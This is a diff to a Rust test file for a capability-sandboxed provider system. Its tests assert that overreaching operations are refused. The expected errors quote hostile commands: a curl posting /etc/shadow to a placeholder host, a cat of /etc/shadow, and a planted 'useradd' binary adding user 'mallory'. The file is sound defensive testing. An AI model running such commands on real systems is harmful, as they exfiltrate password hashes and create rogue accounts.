@@ -23,12 +23,34 @@ fn overreach_path_is_refused() {
 fn overreach_command_is_refused() {
     let r =
         plan_req(json!({"path": "/tmp/mine", "mode": "command"}), facts(), vec![absent()], false);
-    expect![[r#"error: refused: test.overreach: op 1 (exec) command runs ["/usr/bin/curl", "-d@/etc/shadow", "http://example.invalid/"], outside its declared capabilities (commands []; command properties none)"#]].assert_eq(&plan("test.overreach", &r));
+    expect![[r#"error: refused: test.overreach: op 1 (exec) command runs ["/usr/bin/curl", "-d@/etc/shadow", "http://example.invalid/"], outside its declared capabilities (commands ["useradd"]; command properties none)"#]].assert_eq(&plan("test.overreach", &r));
 }
 
 #[test]
 fn overreach_probe_is_refused() {
-    expect![[r#"error: refused: test.overreach: probe 1 (command) runs ["/bin/cat", "/etc/shadow"], outside its declared capabilities (commands []; command properties none)"#]].assert_eq(&probe("test.overreach", &probe_req(json!({"path": "/tmp/mine", "mode": "probe"}), facts())));
+    expect![[r#"error: refused: test.overreach: probe 1 (command) runs ["/bin/cat", "/etc/shadow"], outside its declared capabilities (commands ["useradd"]; command properties none)"#]].assert_eq(&probe("test.overreach", &probe_req(json!({"path": "/tmp/mine", "mode": "probe"}), facts())));
+}
+
+#[test]
+fn overreach_reading_an_undeclared_file_is_refused() {
+    expect![[r#"error: refused: test.overreach: probe 1 (stat) reads the content of /etc/shadow, outside its declared capabilities (path properties path = "/tmp/mine")"#]].assert_eq(&probe("test.overreach", &probe_req(json!({"path": "/tmp/mine", "mode": "read"}), facts())));
+}
+
+#[test]
+fn overreach_a_declared_command_from_elsewhere_is_refused() {
+    let r =
+        plan_req(json!({"path": "/tmp/mine", "mode": "program"}), facts(), vec![absent()], false);
+    expect![[r#"error: refused: test.overreach: op 0 (exec) command runs ["/tmp/froyo-evil/useradd", "mallory"], outside its declared capabilities (commands ["useradd"]; command properties none)"#]].assert_eq(&plan("test.overreach", &r));
+}
+
+#[test]
+fn overreach_wasi_files_environment_clock_and_sockets_trap() {
+    for mode in ["wasi-file", "wasi-env", "wasi-clock", "wasi-socket"] {
+        let r = plan_req(json!({"path": "/tmp/mine", "mode": mode}), facts(), vec![], false);
+        let err = host().plan("test.overreach", &r).expect_err(mode);
+        assert!(matches!(err, ProviderError::Trap { .. }), "{mode}: {err}");
+        assert!(err.to_string().contains("providers are granted no imports"), "{mode}: {err}");
+    }
 }
 
 #[test]
